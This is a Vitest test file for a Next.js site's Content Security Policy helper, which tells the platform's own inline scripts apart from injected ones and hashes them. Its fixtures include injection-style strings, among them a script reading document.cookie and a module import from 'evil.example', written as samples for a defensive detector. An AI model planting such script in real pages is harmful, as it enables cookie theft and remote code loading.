import { createHash } from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { LOADER, LOADER_SOURCE } from './deferred-scripts';
import { inlineScriptHashes, isPlatformScript, REACT_RUNTIME_PIECES } from './platform-scripts';

const hash = (source: string) => `'sha256-${createHash('sha256').update(Buffer.from(source, 'utf8')).digest('base64')}'`;

const FLIGHT_START = '(self.__next_f=self.__next_f||[]).push([0])';
// As Next writes it: JSON with '<' escaped, a multi-byte name and an escaped quote.
const FLIGHT = 'self.__next_f.push([1,"1:\\"$Sreact.fragment\\"\\n2:I[\\"Škoda — Ōtaki ✓\\"]\\n\\u003cb\\u003e"])';
const TURBOPACK = '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/a.js"],"runtimeModuleIds":[1,2]});';

/** React's instruction runtime as Next's production server ships it: the strings that start with a `$R…=` definition. */
function reactRuntimeStrings(): string[] {
  const file = path.resolve(import.meta.dirname, '../../node_modules/next/dist/compiled/next-server/app-page-turbo.runtime.prod.js');
  const text = fs.readFileSync(file, 'utf8');
  const found = new Set<string>();
  for (const match of text.matchAll(/(["'`])(\$R[A-Z]+=|requestAnimationFrame\(function\(\)\{\$RT)/g)) {
    const quote = match[1];
    let at = match.index + 1;
    while (text[at] !== quote) at += text[at] === '\\' ? 2 : 1;
    const value = new Function(`return ${text.slice(match.index, at + 1)}`)() as string;
    // Some of them end with the opening of their first call, `$RS("`.
    found.add(value.replace(/\$R[A-Z]+\("$/, ''));
  }
  return [...found];
}

describe('isPlatformScript', () => {
  it.each([
    ['the deferred-scripts loader', LOADER_SOURCE],
    ['the start of Next\'s flight data', FLIGHT_START],
    ['a flight data chunk', FLIGHT],
    ['a binary flight chunk', 'self.__next_f.push([3,"AAEC"])'],
    ['Turbopack\'s chunk list', TURBOPACK],
    ['a React boundary instruction alone', '$RC("B:1","S:1")'],
    ['a React client-render instruction with its message', '$RX("B:2","digest","message \\u003cscript\\u003e",null)'],
  ])('allows %s', (_, source) => {
    expect(isPlatformScript(source)).toBe(true);
  });

  it('allows React\'s instruction scripts with the runtime it ships, in the combinations it writes them', () => {
    const runtime = reactRuntimeStrings();
    const [segment, boundary, withStyles, clientRender] = ['$RS=', '$RB=', '$RM=', '$RX='].map((start) => runtime.find((text) => text.startsWith(start))!);
    expect(isPlatformScript(`${segment}$RS("S:0","P:0")`)).toBe(true);
    expect(isPlatformScript(`${boundary}$RC("B:0","S:0")`)).toBe(true);
    expect(isPlatformScript(`${clientRender}${boundary}${withStyles}$RR("B:0","S:0",[["/_next/static/chunks/a.css","high"]])`)).toBe(true);
    expect(isPlatformScript(runtime.find((text) => text.startsWith('requestAnimationFrame'))!)).toBe(true);
  });

  it('knows every piece of the React runtime that Next ships (fails when an upgrade changes them)', () => {
    const pieces = reactRuntimeStrings().map((text) => [text.length, createHash('sha256').update(text).digest('base64')]);
    expect(pieces.length).toBeGreaterThanOrEqual(6);
    expect(REACT_RUNTIME_PIECES).toEqual(expect.arrayContaining(pieces));
  });

  it.each([
    ['plain code', 'alert(1)'],
    ['code after flight data', 'self.__next_f.push([1,"x"]);alert(1)'],
    ['code after the chunk list', `${TURBOPACK}alert(1)`],
    ['two statements', 'self.__next_f.push([1,"x"]);;'],
    ['code inside the flight call', 'self.__next_f.push([1,"x"]),alert(1)'],
    ['flight data that is not JSON', 'self.__next_f.push([1,alert(1)])'],
    ['a flight lookalike', 'self.__next_f.push=alert;self.__next_f.push(1)'],
    ['the loader with something added', `${LOADER_SOURCE};alert(1)`],
    ['a React runtime of its own', '$RC=function(){alert(1)};$RC("B:0","S:0")'],
    ['a React call with code for an argument', '$RC("B:0",alert(1))'],
    ['a React call followed by code', '$RC("B:0","S:0");alert(1)'],
    ['an empty script', ''],
  ])('refuses %s', (_, source) => {
    expect(isPlatformScript(source)).toBe(false);
  });
});

describe('inlineScriptHashes', () => {
  it('hashes the bytes of the platform\'s inline scripts (UTF-8, handed over as latin1) and lists any other inline script, decoded, ignoring data blocks and external scripts', () => {
    const html =
      `<!DOCTYPE html><html><head>${LOADER}<script src="/_next/static/chunks/a.js" async=""></script></head><body>` +
      '<script type="application/ld+json">{"@type":"Car","name":"</p>"}</script>' +
      '<script type="application/json" id="vehicle-content-event">{"value":1}</script>' +
      `<script id="_R_">${TURBOPACK}</script><script>${FLIGHT_START}</script><script>${FLIGHT}</script>` +
      '<div class="site-prose"><script>alert("Ōtaki", document.cookie)</script><SCRIPT type="module">import("//evil.example/x.js")</SCRIPT></div>' +
      `<script>${FLIGHT}</script></body></html>`;
    const { hashes, foreign } = inlineScriptHashes(Buffer.from(html, 'utf8').toString('latin1'));
    // Each once, in the order found.
    expect(hashes).toEqual([hash(LOADER_SOURCE), hash(TURBOPACK), hash(FLIGHT_START), hash(FLIGHT)]);
    expect(foreign).toEqual(['alert("Ōtaki", document.cookie)', 'import("//evil.example/x.js")']);
  });

  it('finds nothing in a page without inline scripts', () => {
    expect(inlineScriptHashes('<html><head></head><body><p>x</p></body></html>')).toEqual({ hashes: [], foreign: [] });
    expect(inlineScriptHashes('')).toEqual({ hashes: [], foreign: [] });
  });
});
